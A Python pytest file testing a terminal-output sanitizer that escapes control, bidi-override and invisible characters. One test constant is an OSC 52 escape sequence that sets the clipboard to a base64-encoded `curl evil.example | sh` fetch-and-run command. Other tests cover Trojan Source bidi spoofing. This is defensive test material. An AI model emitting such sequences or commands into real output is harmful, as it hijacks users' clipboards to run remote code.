"""text.clean(): what a trace's, a program's or a file's strings may not send to the terminal is shown escaped."""

from __future__ import annotations

import sys
import timeit
import unicodedata

import pytest

from concurview.trace.text import clean

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # sets the clipboard to `curl evil.example | sh`


def test_escape_sequences_become_visible_text():
    assert clean(OSC52) == "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07"
    assert clean("\x1b]0;owned\x1b\\") == "\\x1b]0;owned\\x1b\\"
    assert clean("a\x1b[2Jb\x9b1m\x9d0;x\x9c\x7f\x00") == "a\\x1b[2Jb\\x9b1m\\x9d0;x\\x9c\\x7f\\x00"


def test_tab_and_newline_stay_unless_one_line():
    assert clean("a\tb\nc") == "a\tb\nc"
    assert clean("a\tb\nc", one_line=True) == "a\\x09b\\x0ac"
    # Every other line break str.splitlines() knows is escaped: a cleaned text splits only at \n.
    text = clean("1\r2\x0b3\x0c4\x1c5\x1d6\x1e7\x858\u20289\u202910")
    assert text.splitlines() == [text]


@pytest.mark.parametrize("ch", ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068",
                                "\u2069", "\u200e", "\u200f", "\u061c"])
def test_bidi_controls_are_neutralised(ch):
    """Trojan Source: an override makes `x = "abc"` show as something else; shown as its code instead."""
    assert clean(f"if x{ch}y") == f"if x\\u{ord(ch):04x}y"


def test_invisible_format_characters_and_lone_surrogates_are_shown():
    assert clean("a\u200bb\ufeffc\u2060d\u00ade") == "a\\u200bb\\ufeffc\\u2060d\\xade"
    assert clean("tag\U000e0041\U000e007f") == "tag\\U000e0041\\U000e007f", "tag characters hide ASCII"
    assert clean("x\ud800y") == "x\\ud800y", "a JSON '\\ud800' decodes to one; UTF-8 cannot encode it"
    clean("x\ud800y").encode("utf-8")


def test_every_control_and_format_character_is_escaped_but_the_joiners():
    """Checked against this Python's Unicode database: categories Cc, Cf, Cs, Zl, Zp."""
    kept = {"\t", "\n", "\u200c", "\u200d"}  # joiners: Persian, Indic scripts and emoji sequences need them
    for code in range(sys.maxunicode + 1):
        ch = chr(code)
        if unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp") and ch not in kept:
            assert clean(ch) != ch, f"U+{code:04X} passes through"
    for ch in kept:
        assert clean(ch) == ch


def test_ordinary_text_is_returned_as_it_is():
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467"  # joined by ZWJs
    for text in ("MainThread runs (sleep 1.0s) at app.py:12", "主", "task('屌丝3')", family, "café", "", " "):
        assert clean(text) is text and clean(text, one_line=True) is text


def test_cleaning_is_cheap_for_what_is_drawn():
    """Every visible string goes through it on every repaint: the common case must cost next to nothing."""
    line = "ThreadPoolExecutor-0_1 waits (shutdown(wait=True): join at threadpool_shutdown.py:71)"
    per_call = min(timeit.repeat(lambda: clean(line, one_line=True), number=2000, repeat=5)) / 2000
    assert per_call < 20e-6, f"{per_call * 1e6:.2f} µs a string"
